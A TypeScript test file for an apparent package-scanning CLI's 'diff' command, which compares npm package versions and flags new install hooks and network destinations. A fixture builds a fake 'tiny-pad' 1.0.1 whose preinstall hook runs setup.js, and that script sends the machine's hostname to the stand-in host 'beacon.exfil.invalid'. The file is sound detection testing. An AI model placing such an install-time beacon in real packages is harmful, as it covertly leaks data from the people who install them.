import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { diffCommand } from '../../src/cli/commands/diff.js';
import type { CliIO } from '../../src/cli/command.js';
import { makeNpmTgz, sri512 } from '../helpers/archives.js';

function io(cwd: string, env: NodeJS.ProcessEnv = {}): { io: CliIO; out: () => string } {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let text = '';
  stdout.on('data', (c: Buffer) => (text += c.toString('utf8')));
  return { io: { stdout, stderr, env, cwd }, out: () => text };
}

const v1 = makeNpmTgz({ name: 'tiny-pad', version: '1.0.0', main: 'index.js' }, { 'index.js': 'module.exports = (s) => s;\n' });
const v2 = makeNpmTgz(
  { name: 'tiny-pad', version: '1.0.1', main: 'index.js', scripts: { preinstall: 'node setup.js' } },
  {
    'index.js': 'module.exports = (s) => s;\n',
    'setup.js': "const os = require('os');\nrequire('https').request({ hostname: 'beacon.exfil.invalid', method: 'POST' }).end(os.hostname());\n",
  },
);

test('vigil diff of two local artifacts: exit 1 and the hook and destination are named', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-diff-'));
  try {
    writeFileSync(join(dir, 'a.tgz'), v1);
    writeFileSync(join(dir, 'b.tgz'), v2);
    const t = io(dir);
    const code = await diffCommand.run(['a.tgz', 'b.tgz', '--format', 'json'], t.io);
    assert.equal(code, 1);
    const doc = JSON.parse(t.out()) as { installHooks: { added: { hook: string }[] }; destinations: { added: { host: string }[] } };
    assert.deepEqual(doc.installHooks.added.map((h) => h.hook), ['scripts.preinstall']);
    assert.deepEqual(doc.destinations.added.map((d) => d.host), ['beacon.exfil.invalid']);
    const same = io(dir);
    assert.equal(await diffCommand.run(['a.tgz', 'a.tgz'], same.io), 0);
    assert.match(same.out(), /No new behaviour/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('vigil diff usage errors', async () => {
  const t = io(tmpdir());
  await assert.rejects(diffCommand.run(['only-one'], t.io), { code: 'E_USAGE' });
  await assert.rejects(diffCommand.run(['a', 'b', '--format', 'xml'], t.io), { code: 'E_USAGE' });
  const help = io(tmpdir());
  assert.equal(await diffCommand.run(['--help'], help.io), 0);
  assert.match(help.out(), /Usage: vigil diff OLD NEW/);
});

test('vigil diff of two npm registry versions (loopback registry)', async () => {
  const server = createServer((req, res) => {
    const port = (server.address() as AddressInfo).port;
    const base = `http://127.0.0.1:${port}`;
    if (req.url === '/tiny-pad') {
      const version = (v: string, bytes: Uint8Array): Record<string, unknown> => ({
        name: 'tiny-pad',
        version: v,
        dist: { tarball: `${base}/tiny-pad/-/tiny-pad-${v}.tgz`, integrity: sri512(bytes) },
      });
      res.setHeader('content-type', 'application/json');
      res.end(
        JSON.stringify({
          name: 'tiny-pad',
          'dist-tags': { latest: '1.0.1' },
          versions: { '1.0.0': version('1.0.0', v1), '1.0.1': version('1.0.1', v2) },
          time: { created: '2020-01-01T00:00:00.000Z', '1.0.0': '2020-01-01T00:00:00.000Z', '1.0.1': '2024-01-01T00:00:00.000Z' },
        }),
      );
      return;
    }
    if (req.url === '/tiny-pad/-/tiny-pad-1.0.0.tgz') return void res.end(v1);
    if (req.url === '/tiny-pad/-/tiny-pad-1.0.1.tgz') return void res.end(v2);
    res.statusCode = 404;
    res.end('{}');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const cache = mkdtempSync(join(tmpdir(), 'vigil-diff-cache-'));
  try {
    const port = (server.address() as AddressInfo).port;
    const t = io(tmpdir(), { npm_config_registry: `http://127.0.0.1:${port}/`, VIGIL_CACHE_DIR: cache });
    const code = await diffCommand.run(['npm:tiny-pad@1.0.0', 'npm:tiny-pad@1.0.1'], t.io);
    assert.equal(code, 1);
    assert.match(t.out(), /npm:tiny-pad@1\.0\.0 -> npm:tiny-pad@1\.0\.1/);
    assert.match(t.out(), /install hook scripts\.preinstall/);
    assert.match(t.out(), /network destination beacon\.exfil\.invalid/);
  } finally {
    server.close();
    rmSync(cache, { recursive: true, force: true });
  }
});
